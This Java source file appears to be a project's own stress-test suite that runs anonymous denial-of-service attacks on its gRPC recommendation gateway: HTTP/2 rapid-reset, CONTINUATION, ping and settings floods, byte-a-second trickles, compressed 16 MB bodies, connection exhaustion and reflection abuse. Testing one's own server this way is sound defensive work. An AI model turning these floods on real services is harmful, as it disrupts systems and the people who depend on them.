package io.recgpt.hostile.attack;

import com.google.protobuf.ByteString;
import com.google.protobuf.UnknownFieldSet;
import io.grpc.Channel;
import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.health.v1.HealthGrpc;
import io.grpc.reflection.v1.ServerReflectionGrpc;
import io.grpc.reflection.v1.ServerReflectionRequest;
import io.grpc.stub.StreamObserver;
import io.recgpt.gateway.v1.RecommendRequest;
import io.recgpt.gateway.v1.RecommendationServiceGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** What somebody can try who has nothing but the gateway's address. */
final class AnonymousAttacks {
  static final String RECOMMEND = "/recgpt.gateway.v1.RecommendationService/Recommend";

  private static final String HEALTH_CHECK = "/grpc.health.v1.Health/Check";
  private static final String HEALTH_WATCH = "/grpc.health.v1.Health/Watch";
  private static final int LARGE = (16 << 20) - 1_024;
  private static final int THREADS = 8;
  private static final int FRAMES = 100_000;
  private static final int WINDOW = 1 << 20;

  private AnonymousAttacks() {}

  static List<Attack> all() {
    List<Attack> attacks = new ArrayList<>();
    add(attacks, true, "health: watch unknown names of 16 MB, compressed", AnonymousAttacks::watch);
    add(attacks, false, "health: watch 20,000 short unknown names", AnonymousAttacks::watchMany);
    add(attacks, true, "health: bodies of 15.9 MB, half sent", AnonymousAttacks::halfSent);
    add(attacks, false, "health: bodies sent a byte a second", AnonymousAttacks::trickle);
    add(attacks, true, "16 MB of zeros, compressed, without a key", AnonymousAttacks::zeros);
    add(attacks, false, "connections that say nothing", AnonymousAttacks::silent);
    add(attacks, false, "connections opened and closed", AnonymousAttacks::openAndClose);
    add(attacks, false, "random bytes in the place of a preface", AnonymousAttacks::garbage);
    add(attacks, false, "HTTP/1.1", AnonymousAttacks::oldHttp);
    add(attacks, true, "streams opened and reset at once", AnonymousAttacks::rapidReset);
    add(attacks, false, "streams opened and left", AnonymousAttacks::openStreams);
    add(attacks, true, "headers that never end", AnonymousAttacks::endlessHeaders);
    add(attacks, false, "tenants' names of 7,000 letters", AnonymousAttacks::longTenants);
    add(attacks, false, "pings", AnonymousAttacks::pings);
    add(attacks, false, "settings", AnonymousAttacks::settings);
    add(attacks, false, "empty frames of data", AnonymousAttacks::emptyData);
    add(attacks, false, "wrong keys", AnonymousAttacks::wrongKeys);
    add(attacks, false, "unknown methods", AnonymousAttacks::unknownMethods);
    add(attacks, false, "reflection: streams kept open, asked on", AnonymousAttacks::reflection);
    return attacks;
  }

  private static void add(
      List<Attack> attacks, boolean inShort, String name, Attack.Assault assault) {
    attacks.add(new Attack(name, Power.NOBODY, inShort, assault));
  }

  private static void watch(Attacker attacker) throws Exception {
    byte[] body = Wire.gzipped(ofName("a".repeat(LARGE)));
    attacker.repeat(
        4,
        100,
        _ -> {
          Wire wire = attacker.wire();
          int stream = wire.call(HEALTH_WATCH, null, true);
          wire.data(stream, body, true, attacker.millisLeft());
        });
    attacker.hold();
  }

  private static byte[] ofName(String name) {
    return HealthCheckRequest.newBuilder().setService(name).build().toByteArray();
  }

  private static void watchMany(Attacker attacker) throws Exception {
    Channel channel = attacker.channel();
    attacker.repeat(
        THREADS,
        20_000,
        number ->
            HealthGrpc.newStub(channel)
                .watch(
                    HealthCheckRequest.newBuilder().setService("unknown-" + number).build(),
                    attacker.counting()));
    attacker.hold();
  }

  private static void halfSent(Attacker attacker) throws Exception {
    byte[] body = Wire.framed(new byte[LARGE], false);
    byte[] half = Arrays.copyOf(body, body.length - 1);
    attacker.repeat(
        4,
        200,
        _ -> {
          Wire wire = attacker.wire();
          for (int i = 0; i < 10 && wire.isOpen(); i++) {
            int stream = wire.call(HEALTH_CHECK, null, false);
            int sent = wire.data(stream, half, false, 200);
            attacker.count(sent < half.length ? "stopped by the server" : "taken");
          }
        });
    attacker.hold();
  }

  private static void trickle(Attacker attacker) throws Exception {
    byte[] start = Wire.framed(new byte[1_000], false);
    List<Wire> wires = new ArrayList<>();
    List<Integer> streams = new ArrayList<>();
    for (int i = 0; i < 200 && attacker.goesOn(); i++) {
      Wire wire = attacker.wire();
      wires.add(wire);
      streams.add(wire.call(HEALTH_CHECK, null, false));
    }
    for (int sent = 0; sent < start.length && attacker.goesOn(); sent++) {
      for (int i = 0; i < wires.size(); i++) {
        if (wires.get(i).isOpen()) {
          wires.get(i).data(streams.get(i), new byte[] {start[sent]}, false, 0);
        }
      }
      Attacker.pause(Math.clamp(attacker.millisLeft(), 1, 1_000));
    }
    wires.forEach(wire -> attacker.count(wire.isOpen() ? "still open" : "closed"));
  }

  private static void zeros(Attacker attacker) throws Exception {
    RecommendRequest request =
        RecommendRequest.newBuilder()
            .setUnknownFields(
                UnknownFieldSet.newBuilder()
                    .addField(
                        500,
                        UnknownFieldSet.Field.newBuilder()
                            .addLengthDelimited(ByteString.copyFrom(new byte[LARGE]))
                            .build())
                    .build())
            .build();
    byte[] body = Wire.gzipped(request.toByteArray());
    Wire wire = attacker.wire();
    attacker.repeat(
        4,
        2_000,
        _ -> {
          int stream = wire.call(RECOMMEND, null, true);
          wire.data(stream, body, true, attacker.millisLeft());
          Attacker.pause(10);
        });
  }

  private static void silent(Attacker attacker) throws Exception {
    attacker.repeat(THREADS, 2_000, _ -> attacker.connect());
    attacker.hold();
  }

  private static void openAndClose(Attacker attacker) throws Exception {
    attacker.repeat(
        THREADS,
        20_000,
        _ -> {
          try (Socket socket = attacker.connect()) {
            socket.setSoLinger(true, 0);
          }
        });
  }

  private static void garbage(Attacker attacker) throws Exception {
    attacker.repeat(
        THREADS,
        2_000,
        number -> {
          byte[] bytes = new byte[64 << 10];
          new Random(number).nextBytes(bytes);
          send(attacker, bytes);
        });
  }

  private static void oldHttp(Attacker attacker) throws Exception {
    byte[] request =
        ("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n"
                + "a".repeat(64 << 10))
            .getBytes(StandardCharsets.US_ASCII);
    attacker.repeat(THREADS, 2_000, _ -> send(attacker, request));
  }

  private static void send(Attacker attacker, byte[] bytes) throws IOException {
    try (Socket socket = attacker.connect();
        OutputStream out = socket.getOutputStream()) {
      out.write(bytes);
      out.flush();
      socket.setSoTimeout(500);
      attacker.count(
          socket.getInputStream().readAllBytes().length == 0 ? "closed" : "answered, closed");
    }
  }

  private static void rapidReset(Attacker attacker) throws Exception {
    attacker.storm(2, 50, 20_000, WINDOW, wire -> wire.reset(wire.call(RECOMMEND, null, false)));
  }

  private static void openStreams(Attacker attacker) throws Exception {
    attacker.storm(2, 20, 10_000, WINDOW, wire -> wire.call(RECOMMEND, null, false));
    attacker.hold();
  }

  private static void endlessHeaders(Attacker attacker) throws Exception {
    attacker.repeat(
        4,
        50,
        _ -> {
          Wire wire = attacker.wire();
          int stream = wire.nextStream();
          wire.frame(
              Wire.HEADERS, 0, stream, ByteBuffer.wrap(Wire.headers(RECOMMEND, null, false)));
          ByteArrayOutputStream more = new ByteArrayOutputStream();
          Wire.header(more, "x", "y".repeat(16_000));
          for (int i = 0; i < 10_000 && wire.isOpen() && attacker.goesOn(); i++) {
            wire.frame(Wire.CONTINUATION, 0, stream, ByteBuffer.wrap(more.toByteArray()));
          }
          wire.flush();
        });
  }

  private static void longTenants(Attacker attacker) throws Exception {
    Channel channel = attacker.channel("t".repeat(7_000));
    attacker.repeat(
        4,
        5_000,
        _ ->
            RecommendationServiceGrpc.newBlockingStub(channel)
                .withDeadlineAfter(Duration.ofSeconds(2))
                .recommend(RecommendRequest.getDefaultInstance()));
  }

  private static void pings(Attacker attacker) throws Exception {
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire -> wire.frame(Wire.PING, 0, 0, ByteBuffer.allocate(8).putLong(1)));
  }

  private static void settings(Attacker attacker) throws Exception {
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire ->
            wire.frame(
                Wire.SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) 4).putInt(65_535)));
  }

  private static void emptyData(Attacker attacker) throws Exception {
    attacker.repeat(
        2,
        50,
        _ -> {
          Wire wire = attacker.wire();
          int stream = wire.call(HEALTH_CHECK, null, false);
          for (int i = 0; i < 100_000 && wire.isOpen() && attacker.goesOn(); i++) {
            wire.frame(Wire.DATA, 0, stream, ByteBuffer.allocate(0));
          }
          wire.flush();
          attacker.count(wire.isOpen() ? "still open" : "closed by the server");
        });
  }

  private static void wrongKeys(Attacker attacker) throws Exception {
    Wire wire = attacker.wire();
    attacker.repeat(
        4,
        20_000,
        number -> {
          wire.call(RECOMMEND, "Bearer read." + Long.toHexString(number).repeat(8), false);
          Attacker.pause(1);
        });
  }

  private static void unknownMethods(Attacker attacker) throws Exception {
    Wire wire = attacker.wire();
    attacker.repeat(
        4,
        20_000,
        number -> {
          wire.call("/recgpt.gateway.v1.Unknown/Method" + number, null, false);
          Attacker.pause(1);
        });
  }

  private static void reflection(Attacker attacker) throws Exception {
    Channel channel = attacker.channel();
    attacker.repeat(
        4,
        500,
        _ -> {
          StreamObserver<ServerReflectionRequest> asked =
              ServerReflectionGrpc.newStub(channel).serverReflectionInfo(attacker.counting());
          for (int i = 0; i < 100; i++) {
            asked.onNext(
                ServerReflectionRequest.newBuilder()
                    .setFileContainingSymbol("recgpt.gateway.v1.RecommendationService")
                    .build());
          }
        });
    attacker.hold();
  }
}
